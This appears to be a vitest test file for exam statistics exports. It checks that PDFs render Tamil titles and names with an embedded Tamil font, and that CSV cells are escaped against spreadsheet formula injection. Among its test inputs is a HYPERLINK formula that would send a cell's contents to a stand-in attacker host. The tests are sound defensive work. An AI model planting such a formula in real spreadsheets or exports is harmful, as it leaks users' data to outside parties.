import type { ExamStatistics } from '@app/contracts';
import { PDFDict, PDFDocument, PDFName } from 'pdf-lib';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { matrixFile, statisticsFile } from './reports.staff.exports.js';

/** The text a PDF reader finds, all pages together (what a search or a screen reader sees). */
async function pdfText(pdf: Buffer): Promise<string> {
  const doc = await getDocument({ data: new Uint8Array(pdf), verbosity: 0 }).promise;
  const texts: string[] = [];
  for (let i = 1; i <= doc.numPages; i += 1) {
    const content = await (await doc.getPage(i)).getTextContent();
    texts.push(content.items.map((item) => ('str' in item ? item.str : '')).join(''));
  }
  await doc.destroy();
  return texts.join('\n');
}

/** The base names of the fonts a PDF embeds or refers to. */
async function fontNames(pdf: Buffer): Promise<string[]> {
  const doc = await PDFDocument.load(pdf);
  const names: string[] = [];
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    if (object instanceof PDFDict && object.get(PDFName.of('Type')) === PDFName.of('Font')) names.push(String(object.get(PDFName.of('BaseFont'))));
  }
  return names;
}

const area = { questions: 1, meanScored: 2, total: 4, accuracy: 50 };
function statistics(names: { task: string; section: string; question: string; student: string }): ExamStatistics {
  return {
    taskId: 1,
    TaskName: names.task,
    total: 4,
    attempts: 2,
    scores: { mean: 2, median: 2, sd: 2, skewness: null, kurtosis: null, min: 0, max: 4 },
    consistency: { cic: null, errorRatio: null, standardError: null },
    histogram: [{ from: 0, to: 4, count: 2 }],
    sections: [{ name: names.section, ...area }],
    topics: [{ section: names.section, topic: names.section, ...area }],
    items: [
      {
        number: 1,
        questionTaskMapID: 10,
        title: names.question,
        text: '<p>Statement</p>',
        section: names.section,
        topics: [],
        maxMark: 4,
        attempts: 2,
        facility: 50,
        sd: 50,
        discriminationIndex: null,
        discriminativeEfficiency: null,
        effectiveWeight: null,
        counts: { correct: 1, partial: 0, wrong: 1, unanswered: 0, pending: 0 },
        flags: [],
        options: [],
      },
    ],
    students: [{ userId: 5, displayName: names.student, username: 's1', scored: 4, total: 4, percentage: 100, rank: 1, correct: 1, wrong: 0, skipped: 0, submittedAt: '2026-11-20T10:00:00.000Z' }],
  };
}

describe('exam statistics PDF', () => {
  it('prints Tamil titles, question text and names in Tamil with Noto Sans Tamil embedded', async () => {
    const file = await statisticsFile(
      statistics({ task: 'இயற்பியல் மாதிரித் தேர்வு', section: 'உயிரியல்', question: 'தாவரங்களில் ஒளி எங்கு உறிஞ்சப்படுகிறது?', student: 'அனு கிருஷ்ணன்' }),
      'pdf',
    );
    expect(file.contentType).toBe('application/pdf');
    expect((await fontNames(file.buffer)).some((name) => name.includes('NotoSansTamil'))).toBe(true);
    const text = await pdfText(file.buffer);
    // Text extraction gives glyphs in visual order (a vowel sign written before its consonant comes
    // first), so the words checked here have none.
    expect(text).toContain('Exam statistics: இயற்பியல் மாதிரித்');
    expect(text).toContain('தாவரங்களில் ஒளி எங்கு உறிஞ்சப்படுகிறது');
    expect(text).toContain('அனு கிருஷ்ணன்');
    expect(text).toContain('உயிரியல்');
    // The only "?" is the question's own.
    expect(text.match(/\?/g)).toHaveLength(1);
  });

  it('embeds no Tamil font when nothing is in Tamil', async () => {
    const file = await statisticsFile(statistics({ task: 'Physics mock', section: 'Biology', question: 'Where does photosynthesis happen', student: 'Bala' }), 'pdf');
    expect((await fontNames(file.buffer)).sort()).toEqual(['/Helvetica', '/Helvetica-Bold']);
    const text = await pdfText(file.buffer);
    expect(text).toContain('Exam statistics: Physics mock');
    expect(text).toContain('Where does photosynthesis happen');
  });
});

describe('CSV exports and spreadsheet formulas', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click")';
  const cellsOf = (csv: Buffer) => Papa.parse<string[]>(csv.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

  it('writes a cell that a spreadsheet would run as a formula with a leading quote, numbers as they are', async () => {
    const matrix = {
      className: 'XI',
      sectionName: null,
      tests: [{ taskId: 1, taskName: '+Mock', courseName: 'c', total: 4, attempts: 1, mean: 2 }],
      students: [
        { userId: 1, displayName: HYPERLINK, username: '@ravi', sectionName: '-A', scores: [-1], average: -25, taken: 1 },
        { userId: 2, displayName: '\t=1+1', username: 'x', sectionName: '=1\n2', scores: [null], average: null, taken: 0 },
      ],
    };
    const file = await matrixFile(matrix, matrix.students, 'csv');
    const [header, first, second] = cellsOf(file.buffer);
    expect(header![3]).toBe("'+Mock (/4)");
    expect(first).toEqual([`'${HYPERLINK}`, "'@ravi", "'-A", '-1', '1', '-25']);
    expect(second!.slice(0, 3)).toEqual(["'\t=1+1", 'x', "'=1\n2"]);
  });

  it('does the same in the statistics CSV', async () => {
    const file = await statisticsFile(statistics({ task: 'T', section: '=S', question: '@Q', student: HYPERLINK }), 'csv');
    const text = file.buffer.toString('utf8');
    for (const row of cellsOf(file.buffer)) for (const cell of row) expect(cell, text).not.toMatch(/^[=+@\t\r]/);
  });

  it('names an item without a title by the start of its statement, as text', async () => {
    const stats = statistics({ task: 'T', section: 'S', question: '', student: 'Bala' });
    stats.items[0]!.text = '<p>Find <strong>x</strong> if $x^{2}=4$ &amp; x &gt; 0</p>';
    const text = (await statisticsFile(stats, 'csv')).buffer.toString('utf8');
    expect(text).toContain('Find x if $x^{2}=4$ & x > 0');
    expect(text).not.toContain('<strong>');
  });
});
